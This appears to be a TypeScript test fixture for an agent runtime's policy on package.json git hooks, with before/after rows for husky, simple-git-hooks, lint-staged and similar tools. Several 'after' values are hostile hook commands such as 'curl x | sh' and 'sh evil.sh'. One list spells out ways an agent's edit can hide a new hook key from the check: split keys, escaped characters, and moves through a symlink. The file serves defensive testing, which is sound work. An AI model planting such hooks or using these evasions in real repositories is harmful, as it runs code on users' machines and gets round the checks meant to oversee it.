import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { ExternalFileChange } from '../../src/runtime/external-agents/external-agent-port.ts'
import { realGit } from './real-git.ts'

/**
 * package.json files whose keys say what runs at the person's next
 * `git commit` (src/runtime/policy/package-hooks.ts), each in a folder of
 * its own under a repository, with a change to its hook part as a whole
 * new text: a door that knows the new text (Assent's write tool, the
 * built-in file server) compares it, any other asks for a package.json
 * that carries such a key at all.
 */
export const CARRYING_HOOKS: ReadonlyArray<{
  row: string
  folder: string
  before: Record<string, unknown>
  after: Record<string, unknown>
}> = [
  {
    row: "husky v4's hooks",
    folder: 'husky4',
    before: { name: 'a', husky: { hooks: { 'pre-commit': 'npm test' } } },
    after: { name: 'a', husky: { hooks: { 'pre-commit': 'curl x | sh' } } },
  },
  {
    row: "simple-git-hooks' hooks",
    folder: 'simple',
    before: { name: 'b', 'simple-git-hooks': { 'pre-commit': 'npx lint-staged' } },
    after: { name: 'b', 'simple-git-hooks': { 'pre-commit': 'sh evil.sh' } },
  },
  {
    row: "lint-staged's commands",
    folder: 'staged',
    before: { name: 'c', 'lint-staged': { '*.js': 'eslint --fix' } },
    after: { name: 'c', 'lint-staged': { '*': 'sh evil.sh' } },
  },
  {
    row: 'a script the pre-commit package runs, by its name',
    folder: 'precommit',
    before: { name: 'd', 'pre-commit': ['lint'], scripts: { lint: 'eslint .' } },
    after: { name: 'd', 'pre-commit': ['lint'], scripts: { lint: 'sh evil.sh' } },
  },
  {
    row: 'a script a husky hook runs by name (npm test)',
    folder: 'hooked',
    before: { name: 'l', scripts: { test: 'vitest', build: 'tsc' } },
    after: { name: 'l', scripts: { test: 'sh evil.sh', build: 'tsc' } },
  },
  {
    row: "ghooks' hooks under config",
    folder: 'ghooks',
    before: { name: 'e', config: { ghooks: { 'pre-commit': 'npm test' } } },
    after: { name: 'e', config: { ghooks: { 'pre-commit': 'sh evil.sh' } } },
  },
  {
    row: "yorkie's gitHooks",
    folder: 'yorkie',
    before: { name: 'f', gitHooks: { 'pre-commit': 'lint-staged' } },
    after: { name: 'f', gitHooks: { 'pre-commit': 'sh evil.sh' } },
  },
]

/** package.json files that carry no such key, and a change that adds one:
 *  a door that knows the new text asks; a command that makes the change
 *  in the sandbox has the file moved aside once it ends. */
export const ADDING_HOOKS: ReadonlyArray<{
  row: string
  folder: string
  before: Record<string, unknown>
  after: Record<string, unknown>
}> = [
  {
    row: 'simple-git-hooks added',
    folder: 'adds-simple',
    before: { name: 'g', dependencies: { a: '1' } },
    after: { name: 'g', dependencies: { a: '1' }, 'simple-git-hooks': { 'pre-commit': 'sh x' } },
  },
  {
    row: 'husky v4 added',
    folder: 'adds-husky',
    before: { name: 'h' },
    after: { name: 'h', husky: { hooks: { 'pre-push': 'sh x' } } },
  },
]

/** Changes a grant may answer: a dependency added beside hook keys, a
 *  script no hook names changed, and any change of a package.json that
 *  carries no hook key and gains none. */
export const AGENTS_CHANGES: ReadonlyArray<{
  row: string
  folder: string
  before: Record<string, unknown>
  after: Record<string, unknown>
}> = [
  {
    row: 'a dependency beside lint-staged',
    folder: 'dep-beside',
    before: { name: 'i', 'lint-staged': { '*.js': 'eslint' }, dependencies: {} },
    after: { name: 'i', 'lint-staged': { '*.js': 'eslint' }, dependencies: { left: '1' } },
  },
  {
    row: 'a script no hook runs, beside one a husky hook runs',
    folder: 'hooked-other',
    before: { name: 'm', scripts: { test: 'vitest', build: 'tsc' } },
    after: { name: 'm', scripts: { test: 'vitest', build: 'vite' } },
  },
  {
    row: 'a script no hook names',
    folder: 'other-script',
    before: { name: 'j', 'pre-commit': ['lint'], scripts: { lint: 'eslint .', build: 'tsc' } },
    after: { name: 'j', 'pre-commit': ['lint'], scripts: { lint: 'eslint .', build: 'vite' } },
  },
]

/** A package.json carrying no hook key, whose every change is the agent's. */
export const PLAIN_PACKAGE = {
  row: 'a package.json with no hook key',
  folder: 'plain',
  before: { name: 'k', scripts: { start: 'node .' } },
  after: { name: 'k', scripts: { start: 'node server.js' } },
}

/** A file that is no package.json, carrying a hook key: moved onto one,
 *  its text is the package.json's. */
export const HOOKS_ELSEWHERE = 'docs/hooks.json'

/**
 * An external agent's file changes that give the package.json of
 * `ADDING_HOOKS`' first row (or a new one) a hook key, where no line of
 * the change holds `"key":` as written: JSON lets a key stand apart from
 * its colon and spell a letter as an escape, and a move's text is the
 * file moved. A file change is judged only before it is made (nothing
 * walks the workspace after it), so each is the person's.
 */
export const SPELLED_HOOK_CHANGES: ReadonlyArray<
  readonly [string, (workspace: string) => ExternalFileChange]
> = [
  [
    'a key on one line of a diff, its colon on the next',
    (ws) =>
      diffOf(ws, ' {\n+  "simple-git-hooks"\n+  : { "commit-msg": "sh x" },\n   "name": "g",'),
  ],
  [
    'a key and its colon with a removed line between',
    (ws) =>
      diffOf(
        ws,
        ' {\n+  "simple-git-hooks"\n-  "name": "g",\n+  : { "commit-msg": "sh x" }, "name": "g",',
      ),
  ],
  [
    'a key spelled with an escape, in a diff',
    (ws) =>
      diffOf(ws, ' {\n+  "simple\\u002dgit-hooks": { "commit-msg": "sh x" },\n   "name": "g",'),
  ],
  [
    "a key spelled with an escape, in an ACP change's new text",
    (ws) => ({
      path: join(ws, 'adds-simple', 'package.json'),
      change: 'update',
      movePath: null,
      diff: null,
      oldText: packageText(ADDING_HOOKS[0]?.before ?? {}),
      newText: '{ "name": "g", "simple\\u002dgit-hooks": { "commit-msg": "sh x" } }\n',
    }),
  ],
  [
    'a file carrying a hook key moved onto a package.json with none',
    (ws) => moveOf(ws, join(ws, 'adds-simple', 'package.json')),
  ],
  [
    'a file carrying a hook key moved to a new package.json',
    (ws) => moveOf(ws, join(ws, 'docs', 'package.json')),
  ],
  [
    'a file carrying a hook key moved onto a link to a package.json with none',
    (ws) => moveOf(ws, join(ws, LINK_TO_PACKAGE)),
  ],
]

/** A link under another name to the package.json of `ADDING_HOOKS`'
 *  first row: a move onto it writes through it. */
export const LINK_TO_PACKAGE = 'docs/settings.json'

/** A change to adds-simple/package.json by a diff of `lines`, whose
 *  counts match them (so the window draws it line by line). */
function diffOf(workspace: string, lines: string): ExternalFileChange {
  const marks = lines.split('\n').map((line) => line[0])
  const old = marks.filter((mark) => mark !== '+').length
  const added = marks.filter((mark) => mark !== '-').length
  return {
    path: join(workspace, 'adds-simple', 'package.json'),
    change: 'update',
    movePath: null,
    diff: `@@ -1,${old} +1,${added} @@\n${lines}\n`,
    oldText: null,
    newText: null,
  }
}

function moveOf(workspace: string, movePath: string): ExternalFileChange {
  return {
    path: join(workspace, HOOKS_ELSEWHERE),
    change: 'update',
    movePath,
    diff: '@@ -1 +1 @@\n-{ "name": "x",\n+{ "name": "y",\n',
    oldText: null,
    newText: null,
  }
}

/** The text a package.json is written with. */
export const packageText = (value: Record<string, unknown>): string =>
  `${JSON.stringify(value, null, 2)}\n`

/** Makes `workspace` a repository whose husky hook runs `npm test`,
 *  holding each row's package.json as it is before its change. */
export function layPackages(ceiling: string, workspace: string): void {
  realGit(ceiling, workspace, 'init', '-q')
  // husky's own set-up writes this hook: the package's `test` runs at
  // each commit.
  mkdirSync(join(workspace, '.husky'))
  writeFileSync(join(workspace, '.husky', 'pre-commit'), 'npm test\n')
  const rows = [...CARRYING_HOOKS, ...ADDING_HOOKS, ...AGENTS_CHANGES, PLAIN_PACKAGE]
  for (const { folder, before } of rows) {
    mkdirSync(join(workspace, folder), { recursive: true })
    writeFileSync(join(workspace, folder, 'package.json'), packageText(before))
  }
  mkdirSync(join(workspace, 'docs'), { recursive: true })
  symlinkSync(`../${ADDING_HOOKS[0]?.folder ?? ''}/package.json`, join(workspace, LINK_TO_PACKAGE))
  writeFileSync(
    join(workspace, HOOKS_ELSEWHERE),
    '{ "name": "x",\n  "simple-git-hooks": { "commit-msg": "sh x" } }\n',
  )
}
